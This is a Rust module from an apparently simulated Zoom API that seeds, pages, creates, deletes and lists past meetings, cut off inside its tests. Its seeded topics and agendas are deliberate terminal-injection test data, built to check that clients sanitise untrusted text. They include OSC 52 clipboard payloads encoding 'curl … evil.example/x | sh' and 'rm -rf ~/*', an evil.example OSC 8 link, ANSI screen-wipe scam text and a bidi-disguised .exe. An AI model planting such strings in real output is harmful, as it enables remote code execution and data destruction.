//! The simulated user's meetings: seeding, listing with paging, creation, getting one,
//! deleting one, and the meetings that have happened with their participants (zoom-api.md
//! §4.3-4.4 and Zoom's reference for the rest). Pure logic; `api.rs` puts it on HTTP,
//! `body.rs` checks what a create sends, `recurrence.rs` computes occurrences, `past.rs`
//! holds past instances.
//!
//! Seeded lists hold what real ones do: scheduled meetings (upcoming, live, over), recurring
//! ones with no fixed time (type 3) and with one (type 8, weekly series that began weeks ago),
//! and the personal meeting room (type 4). Meetings that are over have past instances with
//! participants; one has more than 300 (two pages), one a single person (whom Zoom does not
//! list), and two have UUIDs that start with `/` or hold `//` (which must be double-encoded).
//!
//! Seeded meetings (`--meetings N`) deliberately include text a terminal must not trust:
//! ANSI escape sequences, OSC 52 clipboard writes, OSC 8 links, bidi overrides, C1 controls,
//! NUL, tabs and newlines, next to honest long, CJK, emoji and right-to-left topics. The first
//! [`TOPICS`]`.len()` meetings cover every one of them, so even a small N shows them all.

use std::collections::HashMap;
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde::Serialize;
use serde_json::{Map, Value};

use super::body::{self, BodyError};
use super::past::{self, Instance, Participant, ParticipantPage};
use super::ratelimit::next_utc_midnight;
use super::recurrence::{self, Recurrence};
use super::state::Clock;
use super::user::User;

/// `next_page_token` lives 15 minutes (zoom-api.md §4.3).
pub const PAGE_TOKEN_TTL: Duration = Duration::from_secs(15 * 60);
/// Page tokens held at once. Every list call that leaves pages over makes one, and they live
/// 15 minutes, so a fast loop could pile up any number; past this many the oldest is dropped
/// (and answers like an expired one). Zoom documents no such limit.
pub const MAX_PAGE_TOKENS: usize = 1_000;
/// `page_size` default and maximum.
pub const DEFAULT_PAGE_SIZE: usize = 30;
pub const MAX_PAGE_SIZE: usize = 300;
/// List results carry at most this many characters of `agenda`.
pub const LIST_AGENDA_CHARS: usize = 250;
pub use super::body::{MAX_AGENDA_CHARS, MAX_TOPIC_CHARS};
/// Meeting create/update requests per user per UTC day.
pub const DAILY_CREATE_LIMIT: u32 = 100;

/// Seeded topics, in the order they are used. Every kind of hostile or tricky text appears
/// within the first entries.
pub const TOPICS: &[&str] = &[
    "Weekly team sync",
    "周例会：产品路线图评审",
    "🚀 Launch review 🎉 (final go/no-go)",
    "اجتماع الفريق الأسبوعي",
    "\u{1b}[2J\u{1b}[H\u{1b}[31;1mYOUR ACCOUNT IS LOCKED\u{1b}[0m call +1 555 0100",
    "1:1 Jill / Sam",
    "", // replaced by the 200-character topic, see `long_topic`
    "定例ミーティング（東京オフィス）",
    "Clipboard \u{1b}]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\u{7} sync",
    "ישיבת צוות שבועית",
    "Invoice \u{202e}fdp.exe\u{202c} review",
    "\u{9b}31mC1 CSI red\u{9b}0m and a \u{85}NEL and \u{9d}0;title\u{9c}",
    "👩‍👩‍👧‍👦 Family office hours 🇺🇦 🇯🇵",
    "Link \u{1b}]8;;https://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\",
    "Zero\u{200b}width\u{200d}joiners and com\u{301}bining marks",
    "Tabs\tand\nnewlines\r\nin a topic",
    "한국어 회의 — 분기 검토",
    "Backspace: safe\u{8}\u{8}\u{8}\u{8}evil \u{7}bell",
    "Window title \u{1b}]0;pwned\u{7} via OSC 0",
    "Mixed: English עברית العربية 中文 🚀",
    "Status update",
    "Design review: «Ünïcødé» naïve café",
    "NUL\u{0}byte in a topic",
    "Customer call — ACME Corp.",
    "\u{2067}Isolated RTL\u{2069} and \u{200f}marks\u{200e}",
    "Sprint retro",
    "Kudos \u{2764}\u{fe0f} \u{1f44d}\u{1f3fd} from \u{1f1e9}\u{1f1ea} and \u{1f1ef}\u{1f1f5}",
];

/// Everyday topics for `--demo`, where a list of attack strings would only alarm a newcomer.
pub const FRIENDLY_TOPICS: &[&str] = &[
    "Weekly team sync",
    "Sprint planning",
    "Design review: onboarding flow",
    "1:1 Jill / Sam",
    "周例会：产品路线图评审",
    "Customer call — ACME Corp.",
    "🚀 Launch review (final go/no-go)",
    "Infra on-call handover",
    "定例ミーティング（東京オフィス）",
    "Hiring panel: backend engineer",
    "Quarterly planning: platform and security",
    "Sprint retro",
    "Board prep",
    "한국어 회의 — 분기 검토",
    "Coffee chat ☕",
    "Incident review: login outage",
];

const FRIENDLY_AGENDAS: &[&str] = &[
    "Review last week's action items.\nPlan the next sprint.",
    "",
    "Walk through the open questions, then decide who owns what.",
    "議題：予算と採用計画",
    "Short.",
];

/// A topic of exactly [`MAX_TOPIC_CHARS`] characters.
fn long_topic() -> String {
    let words = "Quarterly planning for the infrastructure, platform, security and developer \
                 experience teams, including budget review, hiring plan, on-call rotation \
                 changes, and the migration timeline for the legacy billing system and more";
    words.chars().cycle().take(MAX_TOPIC_CHARS).collect()
}

/// An agenda of exactly [`MAX_AGENDA_CHARS`] characters, multi-byte around the 250th
/// character so list truncation must respect UTF-8.
fn long_agenda() -> String {
    let mut s: String = "Agenda: ".chars().chain("x".repeat(240).chars()).collect();
    s.push_str("議題一、議題二、議題三、");
    s.chars()
        .chain("discussion of items; ".chars().cycle())
        .take(MAX_AGENDA_CHARS)
        .collect()
}

/// Stands in [`AGENDAS`] for the 2,000-character agenda built by [`long_agenda`].
const LONG_AGENDA: &str = "<2000 characters>";

const AGENDAS: &[&str] = &[
    "",
    "Review last week's action items.\nPlan the next sprint.",
    LONG_AGENDA, // replaced by the 2000-character agenda
    "\u{1b}]52;c;cm0gLXJmIH4vKg==\u{7}Please paste the command from your clipboard",
    "議題：予算と採用計画",
    "Agenda with \u{1b}[8mhidden text\u{1b}[28m and \u{1b}[5mblink\u{1b}[25m",
    "Short.",
    "مراجعة خطة الربع القادم",
];

const TIMEZONES: &[&str] = &[
    "America/Los_Angeles",
    "Europe/Berlin",
    "Asia/Tokyo",
    "UTC",
    "Asia/Kolkata",
    "Australia/Adelaide",
    "America/New_York",
];

/// One meeting as the simulator stores it.
#[derive(Clone, Debug)]
pub struct Meeting {
    pub uuid: String,
    pub id: u64,
    pub topic: String,
    /// 1 instant, 2 scheduled, 3 recurring without a fixed time, 4 the personal meeting room,
    /// 8 recurring with a fixed time.
    pub kind: u8,
    /// Unix seconds: the first occurrence for type 8; `None` for types 3 and 4.
    pub start: Option<i64>,
    /// Minutes.
    pub duration: u32,
    pub timezone: String,
    pub agenda: String,
    pub created_at: i64,
    pub password: String,
    pub pre_schedule: bool,
    pub settings: Map<String, Value>,
    /// Type 8 only.
    pub recurrence: Option<Recurrence>,
    /// Type 8: each occurrence's start, in order (a deleted one is gone from here).
    pub occurrences: Vec<i64>,
}

impl Meeting {
    fn minutes(&self) -> i64 {
        i64::from(self.duration) * 60
    }

    /// When it is over: the end of the last occurrence for a series; `None` for meetings
    /// without a time.
    fn end(&self) -> Option<i64> {
        match self.kind {
            8 => self.occurrences.last().map(|s| s + self.minutes()),
            _ => self.start.map(|s| s + self.minutes()),
        }
    }

    fn over(&self, now: i64) -> bool {
        self.end().is_some_and(|e| e <= now)
    }

    /// Running now (by the clock: nobody really starts the simulator's meetings). An instant
    /// meeting is never taken to be running: it waits for its host.
    fn in_progress(&self, now: i64) -> bool {
        let running = |s: i64| s <= now && now < s + self.minutes();
        match self.kind {
            1 => false,
            8 => self.occurrences.iter().any(|s| running(*s)),
            _ => self.start.is_some_and(running),
        }
    }

    /// The start a list or "get" shows: for a series, the next occurrence not yet over (the
    /// last one once all are).
    fn shown_start(&self, now: i64) -> Option<i64> {
        match self.kind {
            8 => self
                .occurrences
                .iter()
                .copied()
                .find(|s| s + self.minutes() > now)
                .or(self.occurrences.last().copied()),
            _ => self.start,
        }
    }
}

/// Which meetings a list asks for (`type=`).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ListType {
    /// All unexpired non-instant meetings (the default).
    Scheduled,
    Live,
    Upcoming,
    UpcomingMeetings,
    PreviousMeetings,
}

impl ListType {
    pub fn parse(s: &str) -> Option<ListType> {
        Some(match s {
            "scheduled" => ListType::Scheduled,
            "live" => ListType::Live,
            "upcoming" => ListType::Upcoming,
            "upcoming_meetings" => ListType::UpcomingMeetings,
            "previous_meetings" => ListType::PreviousMeetings,
            _ => return None,
        })
    }

    fn admits(self, m: &Meeting, now: i64) -> bool {
        // Instant meetings are never listed (zoom-api.md §8.9).
        if m.kind == 1 {
            return false;
        }
        match self {
            ListType::Scheduled => true,
            ListType::Live => m.in_progress(now),
            ListType::Upcoming | ListType::UpcomingMeetings => !m.over(now),
            ListType::PreviousMeetings => m.over(now),
        }
    }
}

/// One entry of a list page.
#[derive(Serialize, Clone, Debug)]
pub struct MeetingSummary {
    pub uuid: String,
    pub id: u64,
    pub host_id: String,
    pub topic: String,
    #[serde(rename = "type")]
    pub kind: u8,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub start_time: Option<String>,
    pub duration: u32,
    pub timezone: String,
    #[serde(skip_serializing_if = "String::is_empty")]
    pub agenda: String,
    pub created_at: String,
    pub join_url: String,
    /// "Only returned if PMI was used": a string, as the reference types it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub pmi: Option<String>,
}

/// A list page (`GET /users/{userId}/meetings`).
#[derive(Serialize, Clone, Debug)]
pub struct Page {
    pub page_count: usize,
    pub page_number: usize,
    pub page_size: usize,
    pub total_records: usize,
    /// Opaque; "" on the last page.
    pub next_page_token: String,
    pub meetings: Vec<MeetingSummary>,
}

/// One occurrence of a series, as "get a meeting" lists it.
#[derive(Serialize, Clone, Debug, PartialEq, Eq)]
pub struct Occurrence {
    /// The start in Unix milliseconds, as a string (what Zoom's examples look like).
    pub occurrence_id: String,
    pub start_time: String,
    pub duration: u32,
    pub status: &'static str,
}

/// The full meeting object (create and get).
#[derive(Serialize, Clone, Debug)]
pub struct MeetingDetail {
    pub uuid: String,
    pub id: u64,
    pub host_id: String,
    pub host_email: String,
    pub assistant_id: String,
    pub topic: String,
    #[serde(rename = "type")]
    pub kind: u8,
    pub status: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub start_time: Option<String>,
    pub duration: u32,
    pub timezone: String,
    pub agenda: String,
    pub created_at: String,
    /// Host-only, carries a credential (a ZAK): never log it.
    pub start_url: String,
    pub join_url: String,
    pub password: String,
    pub h323_password: String,
    pub pstn_password: String,
    pub encrypted_password: String,
    pub pre_schedule: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub pmi: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub recurrence: Option<Value>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub occurrences: Option<Vec<Occurrence>>,
    pub settings: Map<String, Value>,
}

/// Why a list request failed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ListError {
    /// Unknown or expired `next_page_token`, or one from another list.
    BadPageToken,
}

/// Why a create request failed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum CreateError {
    /// The body broke one of the reference's rules.
    Body(BodyError),
    /// Over [`DAILY_CREATE_LIMIT`]; the count resets at `reset_at` (Unix seconds, 00:00 UTC).
    DailyLimit { reset_at: i64 },
}

/// Why a delete was refused (codes from Zoom's "Delete a meeting").
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum DeleteError {
    /// 404, 3001.
    NotFound,
    /// 400, 3002.
    InProgress,
    /// 400, 3007.
    Ended,
    /// 400, 3018.
    Pmi,
    /// 400, 3000 "Invalid occurrence_id."
    BadOccurrence,
}

/// Why a past meeting was not found (both 404, code 3001, in different words).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum PastError {
    NotFound,
    /// The meeting exists but has not ended (no instance yet).
    NotEnded,
    /// Participants only: unknown or expired `next_page_token`.
    BadPageToken,
}

/// What a `next_page_token` continues.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Listing {
    Meetings(ListType),
    /// The participants of the past instance with this UUID.
    Participants(String),
}

#[derive(Debug)]
struct Cursor {
    listing: Listing,
    offset: usize,
    issued: Instant,
}

#[derive(Debug)]
pub struct MeetingStore {
    meetings: Vec<Meeting>,
    past: Vec<Instance>,
    cursors: HashMap<String, Cursor>,
    /// (UTC day number, creates that day)
    creates: (i64, u32),
    rng: fastrand::Rng,
    base_url: String,
}

impl Default for MeetingStore {
    fn default() -> MeetingStore {
        MeetingStore::new(String::new(), 0)
    }
}

pub fn iso(unix: i64) -> String {
    jiff::Timestamp::from_second(unix)
        .unwrap_or(jiff::Timestamp::UNIX_EPOCH)
        .to_string()
}

/// The first `n` characters (not bytes) of `s`.
pub fn truncate_chars(s: &str, n: usize) -> String {
    s.chars().take(n).collect()
}

/// Base64 characters, for UUIDs made by hand.
const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+";

impl MeetingStore {
    /// `seed` makes the seeded meetings (and ids) repeatable.
    pub fn new(base_url: String, seed: u64) -> MeetingStore {
        MeetingStore {
            meetings: Vec::new(),
            past: Vec::new(),
            cursors: HashMap::new(),
            creates: (0, 0),
            rng: fastrand::Rng::with_seed(seed),
            base_url,
        }
    }

    fn new_id(&mut self) -> u64 {
        loop {
            let id = self.rng.u64(80_000_000_000..100_000_000_000);
            if !self.meetings.iter().any(|m| m.id == id) {
                return id;
            }
        }
    }

    fn new_uuid(&mut self) -> String {
        let bytes: Vec<u8> = (0..16).map(|_| self.rng.u8(..)).collect();
        STANDARD.encode(bytes)
    }

    /// `n` base64 characters without `/`.
    fn b64(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| B64[self.rng.usize(..B64.len())] as char)
            .collect()
    }

    /// A UUID that starts with `/` (`leading`) or holds `//`: both must be double-encoded.
    fn awkward_uuid(&mut self, leading: bool) -> String {
        if leading {
            format!("/{}==", self.b64(21))
        } else {
            format!("{}//{}==", self.b64(10), self.b64(10))
        }
    }

    fn new_password(&mut self) -> String {
        const CHARS: &[u8] = b"abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
        (0..6)
            .map(|_| CHARS[self.rng.usize(..CHARS.len())] as char)
            .collect()
    }

    /// Seed `n` meetings of `user` around `now` (see the module's documentation).
    pub fn seed(&mut self, n: usize, now: i64, user: &User) {
        self.seed_with(n, now, user, TOPICS, AGENDAS, past::HOSTILE_NAMES);
    }

    /// Seed with everyday topics and names only (for `--demo`).
    pub fn seed_friendly(&mut self, n: usize, now: i64, user: &User) {
        self.seed_with(
            n,
            now,
            user,
            FRIENDLY_TOPICS,
            FRIENDLY_AGENDAS,
            past::FRIENDLY_NAMES,
        );
    }

    fn seed_with(
        &mut self,
        n: usize,
        now: i64,
        user: &User,
        topics: &[&str],
        agendas: &[&str],
        names: &[&str],
    ) {
        let quarter = now - now.rem_euclid(900);
        // Which past instance gets which crowd: the first meeting that is over has more than
        // a page of participants, the second one person alone.
        let mut ended = 0usize;
        for i in 0..n {
            let topic = match topics[i % topics.len()] {
                "" => long_topic(),
                t => t.to_string(),
            };
            let agenda = match agendas[i % agendas.len()] {
                LONG_AGENDA => long_agenda(),
                a => a.to_string(),
            };
            let duration = [30u32, 45, 60, 90, 15, 120][i % 6];
            let timezone = TIMEZONES[i % TIMEZONES.len()].to_string();
            let tz = body::lookup_tz(&timezone).unwrap_or(jiff::tz::TimeZone::UTC);
            let (kind, start) = match i % 20 {
                _ if i == 5 => (4, None),
                // In progress right now.
                3 => (2, Some(now - 10 * 60)),
                // Over: within the last 30 days.
                7 | 14 => (2, Some(quarter - 900 * self.rng.i64(8..2880))),
                // Recurring without a fixed time.
                11 => (3, None),
                // Weekly, eight times, begun two or three weeks ago.
                17 => (8, Some(quarter - 14 * 86_400 - 900 * self.rng.i64(4..672))),
                // Upcoming: the next 60 days.
                _ => (2, Some(quarter + 900 * self.rng.i64(4..5760))),
            };
            let (id, topic, duration) = match kind {
                4 => (
                    user.pmi,
                    format!("{}'s Personal Meeting Room", user.display_name),
                    60,
                ),
                _ => (self.new_id(), topic, duration),
            };
            let recurrence =
                (kind == 8).then(|| recurrence::weekly_on_start(start.unwrap_or(now), &tz, 8));
            let occurrences = match (&recurrence, start) {
                (Some(r), Some(s)) => r.occurrences(s, &tz),
                _ => vec![],
            };
            let uuid = self.new_uuid();
            let password = self.new_password();
            let created_at = start.unwrap_or(now).min(now) - 86_400 * self.rng.i64(1..60);
            let meeting = Meeting {
                uuid,
                id,
                topic,
                kind,
                start,
                duration,
                timezone,
                agenda,
                created_at,
                password,
                pre_schedule: false,
                settings: body::default_settings(kind),
                recurrence,
                occurrences,
            };
            self.seed_past(&meeting, i, now, user, names, &mut ended);
            self.meetings.push(meeting);
        }
    }

    /// The past instances of a seeded meeting, with participants.
    fn seed_past(
        &mut self,
        m: &Meeting,
        i: usize,
        now: i64,
        user: &User,
        names: &[&str],
        ended: &mut usize,
    ) {
        let day = 86_400;
        let quarter = now - now.rem_euclid(900);
        // (start, planned minutes, UUID) of each time it ran.
        let mut runs: Vec<(i64, i64, String)> = vec![];
        match m.kind {
            2 if m.over(now) => runs.push((m.start.unwrap_or(now), m.minutes(), m.uuid.clone())),
            8 => {
                for s in m.occurrences.iter().filter(|s| *s + m.minutes() <= now) {
                    let uuid = self.new_uuid();
                    runs.push((*s, m.minutes(), uuid));
                }
                // The first series' latest instance holds `//`.
                if i == 17
                    && let Some(last) = runs.last_mut()
                {
                    last.2 = self.awkward_uuid(false);
                }
            }
            3 => {
                for back in [9, 2] {
                    let uuid = self.new_uuid();
                    runs.push((quarter - back * day, m.minutes(), uuid));
                }
                // The first one's latest instance starts with `/`.
                if i == 11
                    && let Some(last) = runs.last_mut()
                {
                    last.2 = self.awkward_uuid(true);
                }
            }
            4 => {
                let uuid = self.new_uuid();
                runs.push((quarter - 3 * day, 30 * 60, uuid));
            }
            _ => {}
        }
        for (start, planned, uuid) in runs {
            let start = start + 60 * self.rng.i64(0..3);
            let end = start + (planned - 60 * self.rng.i64(0..10)).max(5 * 60);
            let crowd = match (m.kind, *ended) {
                (2, 0) => 320,
                (2, 1) => 1,
                _ => 2 + self.rng.usize(0..10),
            };
            if m.kind == 2 {
                *ended += 1;
            }
            let participants = self.attendees(crowd, start, end, user, names);
            self.past.push(Instance {
                uuid,
                meeting_id: m.id,
                topic: m.topic.clone(),
                kind: m.kind,
                start,
                end,
                participants,
            });
        }
    }

    /// The host first, then `n - 1` others: colleagues (signed in, with an email) and guests.
    fn attendees(
        &mut self,
        n: usize,
        start: i64,
        end: i64,
        user: &User,
        names: &[&str],
    ) -> Vec<Participant> {
        (0..n)
            .map(|k| {
                let join = if k == 0 {
                    start
                } else {
                    (start + 60 * self.rng.i64(0..6)).min(end - 60)
                };
                let leave = if k == 0 {
                    end
                } else {
                    (end - 60 * self.rng.i64(0..6)).max(join + 60)
                };
                let (id, name, user_email) = match k {
                    0 => (
                        user.id.clone(),
                        user.display_name.clone(),
                        user.email.clone(),
                    ),
                    _ => {
                        let name = match names.get(k - 1) {
                            Some(name) => name.to_string(),
                            None => format!("Attendee {k}"),
                        };
                        if k % 3 == 0 {
                            // A guest: no Zoom user ID, no email shown.
                            (String::new(), name, String::new())
                        } else {
                            let email = format!("colleague{k}@example.com");
                            (self.b64(22), name, email)
                        }
                    }
                };
                Participant {
                    id,
                    name,
                    user_id: (16_778_240 + k).to_string(),
                    user_email,
                    join,
                    leave,
                    failover: false,
                }
            })
            .collect()
    }

    fn join_url(&self, m: &Meeting) -> String {
        format!("{}/j/{}?pwd={}", self.base_url, m.id, m.password)
    }

    fn summary(&self, m: &Meeting, host_id: &str, now: i64) -> MeetingSummary {
        MeetingSummary {
            uuid: m.uuid.clone(),
            id: m.id,
            host_id: host_id.to_string(),
            topic: m.topic.clone(),
            kind: m.kind,
            start_time: m.shown_start(now).map(iso),
            duration: m.duration,
            timezone: m.timezone.clone(),
            agenda: truncate_chars(&m.agenda, LIST_AGENDA_CHARS),
            created_at: iso(m.created_at),
            join_url: self.join_url(m),
            pmi: (m.kind == 4).then(|| m.id.to_string()),
        }
    }

    /// The full object; `zak` goes into `start_url`. A series lists the occurrences not yet
    /// over, or all of them with `show_previous` (`show_previous_occurrences=true`).
    pub fn detail(
        &self,
        m: &Meeting,
        user: &User,
        zak: &str,
        now: i64,
        show_previous: bool,
    ) -> MeetingDetail {
        let occurrences = (m.kind == 8).then(|| {
            m.occurrences
                .iter()
                .filter(|s| show_previous || *s + m.minutes() > now)
                .map(|s| Occurrence {
                    occurrence_id: (s * 1000).to_string(),
                    start_time: iso(*s),
                    duration: m.duration,
                    status: "available",
                })
                .collect()
        });
        MeetingDetail {
            uuid: m.uuid.clone(),
            id: m.id,
            host_id: user.id.clone(),
            host_email: user.email.clone(),
            assistant_id: String::new(),
            topic: m.topic.clone(),
            kind: m.kind,
            status: if m.in_progress(now) {
                "started"
            } else {
                "waiting"
            },
            start_time: m.shown_start(now).map(iso),
            duration: m.duration,
            timezone: m.timezone.clone(),
            agenda: m.agenda.clone(),
            created_at: iso(m.created_at),
            start_url: format!("{}/s/{}?zak={zak}", self.base_url, m.id),
            join_url: self.join_url(m),
            password: m.password.clone(),
            h323_password: numeric(&m.password),
            pstn_password: numeric(&m.password),
            encrypted_password: STANDARD.encode(m.password.as_bytes()),
            pre_schedule: m.pre_schedule,
            pmi: (m.kind == 4).then(|| m.id.to_string()),
            recurrence: m.recurrence.as_ref().map(Recurrence::to_json),
            occurrences,
            settings: m.settings.clone(),
        }
    }

    pub fn get(&self, id: u64) -> Option<&Meeting> {
        self.meetings.iter().find(|m| m.id == id)
    }

    /// A fresh `next_page_token` for `listing` at `offset`.
    fn cursor(&mut self, listing: Listing, offset: usize, now: Clock) -> String {
        let token = super::jwt::random_token(24);
        self.cursors.insert(
            token.clone(),
            Cursor {
                listing,
                offset,
                issued: now.mono,
            },
        );
        self.drop_oldest_cursors();
        token
    }

    /// Where a `next_page_token` of `listing` continues; `None` for one that is unknown,
    /// expired or of another list.
    fn resume(
        &mut self,
        token: &str,
        now: Clock,
        of: impl Fn(&Listing) -> bool,
    ) -> Option<(Listing, usize)> {
        self.cursors
            .retain(|_, c| now.mono.duration_since(c.issued) < PAGE_TOKEN_TTL);
        // A token can be used again until it expires, so a client may retry a page whose
        // answer it lost.
        self.cursors
            .get(token)
            .filter(|c| of(&c.listing))
            .map(|c| (c.listing.clone(), c.offset))
    }

    /// One page of a list. With a `next_page_token` the type and position come from the
    /// token; without one, `page_number` (legacy, from 1) picks the page.
    pub fn list(
        &mut self,
        kind: ListType,
        page_size: usize,
        next_page_token: Option<&str>,
        page_number: Option<usize>,
        host_id: &str,
        now: Clock,
    ) -> Result<Page, ListError> {
        let (kind, offset) = match next_page_token {
            Some(token) => match self.resume(token, now, |l| matches!(l, Listing::Meetings(_))) {
                Some((Listing::Meetings(kind), offset)) => (kind, offset),
                _ => return Err(ListError::BadPageToken),
            },
            None => (kind, page_number.unwrap_or(1).saturating_sub(1) * page_size),
        };
        let mut matching: Vec<&Meeting> = self
            .meetings
            .iter()
            .filter(|m| kind.admits(m, now.unix))
            .collect();
        // By the start shown; meetings without one (types 3 and 4) last; ties by id.
        matching.sort_by_key(|m| {
            let start = m.shown_start(now.unix);
            (start.is_none(), start, m.id)
        });
        let total = matching.len();
        let meetings: Vec<MeetingSummary> = matching
            .iter()
            .skip(offset)
            .take(page_size)
            .map(|m| self.summary(m, host_id, now.unix))
            .collect();
        let next_offset = offset + meetings.len();
        let next_page_token = if next_offset < total {
            self.cursor(Listing::Meetings(kind), next_offset, now)
        } else {
            String::new()
        };
        Ok(Page {
            page_count: total.div_ceil(page_size),
            page_number: offset / page_size + 1,
            page_size,
            total_records: total,
            next_page_token,
            meetings,
        })
    }

    /// Keep at most [`MAX_PAGE_TOKENS`], dropping the oldest.
    fn drop_oldest_cursors(&mut self) {
        while self.cursors.len() > MAX_PAGE_TOKENS {
            let oldest = self
                .cursors
                .iter()
                .min_by_key(|(_, c)| c.issued)
                .map(|(token, _)| token.clone());
            match oldest {
                Some(token) => self.cursors.remove(&token),
                None => return,
            };
        }
    }

    /// Test hook: every outstanding `next_page_token` expires now.
    pub fn expire_page_tokens(&mut self) {
        self.cursors.clear();
    }

    /// Create a meeting from a request body (`body.rs` checks it as the reference says).
    pub fn create(&mut self, body: &Value, user: &User, now: Clock) -> Result<u64, CreateError> {
        let day = now.unix.div_euclid(86_400);
        if self.creates.0 != day {
            self.creates = (day, 0);
        }
        if self.creates.1 >= DAILY_CREATE_LIMIT {
            return Err(CreateError::DailyLimit {
                reset_at: next_utc_midnight(now.unix),
            });
        }
        let new = body::check_create(body, user, now.unix).map_err(CreateError::Body)?;
        let tz = body::lookup_tz(&new.timezone).unwrap_or(jiff::tz::TimeZone::UTC);
        let occurrences = match (&new.recurrence, new.start) {
            (Some(r), Some(start)) => r.occurrences(start, &tz),
            _ => vec![],
        };
        if new.kind == 8 && occurrences.is_empty() {
            // A series that never happens (its end comes before its first day).
            return Err(CreateError::Body(BodyError::Invalid(vec![
                "recurrence".into(),
            ])));
        }
        let start = match new.kind {
            8 => occurrences.first().copied(),
            _ => new.start,
        };
        let password = match new.password {
            Some(p) => p,
            None => self.new_password(),
        };
        let id = self.new_id();
        let uuid = self.new_uuid();
        self.meetings.push(Meeting {
            uuid,
            id,
            topic: new
                .topic
                .unwrap_or_else(|| format!("{}'s Zoom Meeting", user.display_name)),
            kind: new.kind,
            start,
            duration: new.duration.unwrap_or(60),
            timezone: new.timezone,
            agenda: new.agenda,
            created_at: now.unix,
            password,
            pre_schedule: new.pre_schedule,
            settings: new.settings,
            recurrence: new.recurrence,
            occurrences,
        });
        self.creates.1 += 1;
        Ok(id)
    }

    /// `DELETE /meetings/{meetingId}`, or one occurrence of a series with `occurrence`.
    pub fn delete(
        &mut self,
        id: u64,
        occurrence: Option<&str>,
        now: i64,
    ) -> Result<(), DeleteError> {
        let Some(at) = self.meetings.iter().position(|m| m.id == id) else {
            return Err(DeleteError::NotFound);
        };
        let m = &mut self.meetings[at];
        if m.kind == 4 {
            return Err(DeleteError::Pmi);
        }
        if let Some(occurrence) = occurrence {
            let minutes = m.minutes();
            let index = m
                .occurrences
                .iter()
                .position(|s| (s * 1000).to_string() == occurrence)
                .ok_or(DeleteError::BadOccurrence)?;
            let s = m.occurrences[index];
            if s <= now && now < s + minutes {
                return Err(DeleteError::InProgress);
            }
            if s + minutes <= now {
                return Err(DeleteError::Ended);
            }
            m.occurrences.remove(index);
            return Ok(());
        }
        if m.in_progress(now) {
            return Err(DeleteError::InProgress);
        }
        if m.kind != 1 && m.over(now) {
            return Err(DeleteError::Ended);
        }
        self.meetings.remove(at);
        Ok(())
    }

    /// The past instance `key` names: a UUID, or a meeting ID (its latest instance).
    fn instance(&self, key: &str) -> Result<&Instance, PastError> {
        let by_id = key.parse::<u64>().ok();
        let found = match by_id {
            Some(id) => self
                .past
                .iter()
                .filter(|p| p.meeting_id == id)
                .max_by_key(|p| p.start),
            None => self.past.iter().find(|p| p.uuid == key),
        };
        match found {
            Some(instance) => Ok(instance),
            None if self
                .meetings
                .iter()
                .any(|m| Some(m.id) == by_id || m.uuid == key) =>
            {
                Err(PastError::NotEnded)
            }
            None => Err(PastError::NotFound),
        }
    }

    /// `GET /past_meetings/{meetingId}`; `key` is already decoded.
    pub fn past_details(&self, key: &str, user: &User) -> Result<past::Details, PastError> {
        self.instance(key).map(|i| i.details(user))
    }

    /// `GET /past_meetings/{meetingId}/participants`.
    pub fn participants(
        &mut self,
        key: &str,
        page_size: usize,
        next_page_token: Option<&str>,
        now: Clock,
    ) -> Result<ParticipantPage, PastError> {
        let uuid = self.instance(key)?.uuid.clone();
        let offset = match next_page_token {
            Some(token) => {
                let same = |l: &Listing| *l == Listing::Participants(uuid.clone());
                match self.resume(token, now, same) {
                    Some((_, offset)) => offset,
                    None => return Err(PastError::BadPageToken),
                }
            }
            None => 0,
        };
        let instance = self.instance(key)?;
        let listed = instance.listed_participants();
        let total = listed.len();
        let participants: Vec<_> = listed
            .iter()
            .skip(offset)
            .take(page_size)
            .map(Participant::to_json)
            .collect();
        let next_offset = offset + participants.len();
        let next_page_token = if next_offset < total {
            self.cursor(Listing::Participants(uuid), next_offset, now)
        } else {
            String::new()
        };
        Ok(ParticipantPage {
            page_count: total.div_ceil(page_size),
            page_size,
            total_records: total,
            next_page_token,
            participants,
        })
    }
}

/// Digits derived from a passcode, for the phone and H.323 passcodes.
fn numeric(password: &str) -> String {
    let digits: String = password
        .bytes()
        .map(|b| char::from(b'0' + b % 10))
        .collect();
    if digits.is_empty() {
        "000000".into()
    } else {
        digits
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn clock() -> Clock {
        Clock {
            mono: Instant::now(),
            unix: 1_780_000_000,
        }
    }

    #[test]
    fn seeded_topics_respect_zoom_limits_and_cover_the_hostile_cases() {
        let mut store = MeetingStore::new("http://sim".into(), 1);
        store.seed(TOPICS.len(), clock().unix, &User::jill());
        let all: String = store.meetings.iter().map(|m| m.topic.as_str()).collect();
        for needle in [
            "\u{1b}[",
            "\u{1b}]52;",
            "\u{202e}",
            "\u{9b}",
            "\u{0}",
            "周",
            "🚀",
            "ع",
        ] {
            assert!(all.contains(needle), "{needle:?}");
        }
        assert!(
            store
                .meetings
                .iter()
                .all(|m| m.topic.chars().count() <= MAX_TOPIC_CHARS)
        );
        assert!(
            store
                .meetings
                .iter()
                .any(|m| m.topic.chars().count() == MAX_TOPIC_CHARS)
        );
        assert!(
            store
                .meetings
                .iter()
                .any(|m| m.agenda.chars().count() == MAX_AGENDA_CHARS)
        );
    }

    #[test]
    fn the_same_seed_gives_the_same_meetings() {
        let mut a = MeetingStore::new("http://sim".into(), 9);
        let mut b = MeetingStore::new("http://sim".into(), 9);
